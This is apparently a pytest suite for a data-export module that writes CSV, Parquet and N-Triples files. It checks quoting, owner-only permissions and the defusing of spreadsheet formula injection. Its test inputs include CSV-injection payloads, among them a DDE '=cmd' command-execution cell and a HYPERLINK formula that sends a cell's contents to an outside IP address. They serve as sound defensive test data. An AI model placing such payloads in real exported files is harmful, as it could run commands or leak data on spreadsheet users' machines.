"""Rows as CSV files: as RFC 4180 has it, for their owner alone, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from groundwire.errors import UnavailableError
from groundwire.graph.terms import Term, literal
from groundwire.sparql.exports import Export, Sink, as_parquet, write_csv, write_triples


def read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_rows_are_written_as_rfc_4180_has_it(tmp_path: Path) -> None:
    export = write_csv(
        tmp_path / "exports",
        ["name", "said", "n", "ok"],
        [["Ann", 'He said "no",\r\nthen left', -5, True], ["北京", None, 1.5, False]],
    )
    assert (
        export.path.read_bytes()
        == (
            'name,said,n,ok\r\nAnn,"He said ""no"",\r\nthen left",-5,true\r\n北京,,1.5,false\r\n'
        ).encode()
    )
    assert (export.rows, export.prefixed) == (2, 0)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+49 30 1234",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "＝1+1",
        "＠SUM(A1)",
        '=HYPERLINK("http://198.51.100.1/?"&A1)',
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_a_text(tmp_path: Path, cell: str) -> None:
    export = write_csv(tmp_path, ["x"], [[cell]])
    assert read(export.path) == [["x"], [f"'{cell}"]]
    assert export.prefixed == 1


def test_a_header_is_a_cell_too(tmp_path: Path) -> None:
    export = write_csv(tmp_path, ["=1+1", "b"], [])
    assert read(export.path) == [["'=1+1", "b"]]
    assert (export.rows, export.prefixed) == (0, 1)


@pytest.mark.parametrize(
    "cell", ["-5", "+3.25", "-1e9", ".5", "a=b", "2024-01-01", "", "http://e/=x"]
)
def test_numbers_and_harmless_texts_stay_as_they_are(tmp_path: Path, cell: str) -> None:
    export = write_csv(tmp_path, ["x", "y"], [[cell, "z"]])
    assert read(export.path)[1] == [cell, "z"]
    assert export.prefixed == 0


@pytest.mark.skipif(os.name == "nt", reason="modes of files are a matter of POSIX")
def test_only_the_owner_may_read_it(tmp_path: Path) -> None:
    folder = tmp_path / "home" / "exports"
    export = write_csv(folder, ["x"], [["y"]])
    assert folder.stat().st_mode & 0o777 == 0o700
    assert export.path.stat().st_mode & 0o777 == 0o600


def test_names_are_random_and_nothing_is_written_over(tmp_path: Path) -> None:
    paths = {write_csv(tmp_path, ["x"], [[number]]).path for number in range(20)}
    assert len(paths) == 20
    assert all(len(path.stem) > 16 for path in paths)
    assert sorted(read(path)[1][0] for path in paths) == sorted(str(n) for n in range(20))


def test_a_folder_that_cannot_be_written_is_said_with_the_way_out(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x", "utf-8")
    with pytest.raises(UnavailableError, match="without export, or set GROUNDWIRE_HOME"):
        write_csv(tmp_path / "file" / "exports", ["x"], [["y"]])


HOSTILE = [
    ["name", "n", "said"],
    ["Ann", "-5", 'He said "no",\r\n=1+1'],
    ["=1+1", "1.5e3", "\u3000=cmd"],
    ["北京", "+49 30", "a, =b"],
    ["@x", "-2+3", "\t=1"],
    ["", "7", "＝1"],
    ["plain", "-1.25", 'quoted "" and, more'],
]


def as_engine_writes(rows: list[list[str]]) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerows(rows)
    return text.getvalue().encode()


@pytest.mark.parametrize("size", [1, 2, 3, 7, 16, 10_000])
def test_chunks_come_to_the_file_that_rows_come_to(tmp_path: Path, size: int) -> None:
    data = as_engine_writes(HOSTILE)
    sink = Sink(tmp_path, "csv")
    assert all(sink.take(data[at : at + size]) for at in range(0, len(data), size))
    streamed = sink.close()
    written = write_csv(tmp_path, HOSTILE[0], HOSTILE[1:])
    assert read(streamed.path) == read(written.path)
    assert (streamed.rows, streamed.prefixed) == (6, written.prefixed)
    assert streamed.size == streamed.path.stat().st_size
    assert streamed.path.stat().st_mode & 0o777 == 0o600


def test_no_cell_that_begins_like_a_formula_is_overlooked(tmp_path: Path) -> None:
    signs = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "－", "＋", "＠"]
    blanks = [
        "",
        " ",
        "\t",
        "\u00a0",
        "\u3000",
        "\u2003",
        "\u205f",
        "\x1f",
        "\u0085",
        "\u1680",
        " \n ",
    ]
    cells = [
        f"{blank}{sign}{rest}" for blank in blanks for sign in signs for rest in ("", "x", "1,2")
    ]
    for cell in cells:
        for row in ([cell, "a"], ["a", cell], ["é", 'b "c" d', cell]):
            data = as_engine_writes([["h"] * len(row), ["plain"] * len(row), row])
            sink = Sink(tmp_path, "csv")
            sink.take(data)
            streamed = sink.close()
            assert read(streamed.path) == read(
                write_csv(tmp_path, ["h"] * len(row), [["plain"] * len(row), row]).path
            ), repr(cell)


@pytest.mark.parametrize("size", [3, 1_000])
def test_a_file_ends_with_a_whole_row_at_its_most_bytes(tmp_path: Path, size: int) -> None:
    data = as_engine_writes([["x", "y"], *[[f"row {n}", 'a "b"\n'] for n in range(100)]])
    sink = Sink(tmp_path, "csv", most_bytes=500)
    taken = [sink.take(data[at : at + size]) for at in range(0, len(data), size)]
    assert not all(taken)
    export = sink.close()
    rows = read(export.path)
    assert not export.is_whole
    assert export.size <= 500
    assert len(rows) == export.rows + 1 > 10
    assert all(row[1] == 'a "b"\n' for row in rows[1:])


def test_parquet_keeps_numbers_dates_and_texts_as_they_are(tmp_path: Path) -> None:
    import duckdb

    columns = ["n", "x", "day", "code", "said", 'odd "name"']
    rows = [
        [1, 1.5, "2024-01-02", "007", "=1+1", "a"],
        [-2, None, "2024-02-03", "12", "x,\ny", "b"],
    ]
    export = as_parquet(write_csv(tmp_path, columns, rows, guarded=False))
    assert export.path.suffix == ".parquet"
    assert list(tmp_path.iterdir()) == [export.path]
    assert export.path.stat().st_mode & 0o777 == 0o600
    with duckdb.connect() as database:
        held = database.read_parquet(str(export.path))
        assert [str(one) for one in held.types] == ["BIGINT", "DOUBLE", "DATE", *["VARCHAR"] * 3]
        assert held.columns == columns
        assert [row[4] for row in held.fetchall()] == ["=1+1", "x,\ny"]


def test_triples_are_written_as_n_triples(tmp_path: Path) -> None:
    said = literal('a "b"\n', language="de")
    triple = (Term("iri", "http://a.example/s"), Term("iri", "http://a.example/p"), said)
    export = write_triples(tmp_path, [triple])
    assert export == Export(export.path, 1, 0, export.path.stat().st_size)
    assert (
        export.path.read_text("utf-8")
        == '<http://a.example/s> <http://a.example/p> "a \\"b\\"\\n"@de .\n'
    )
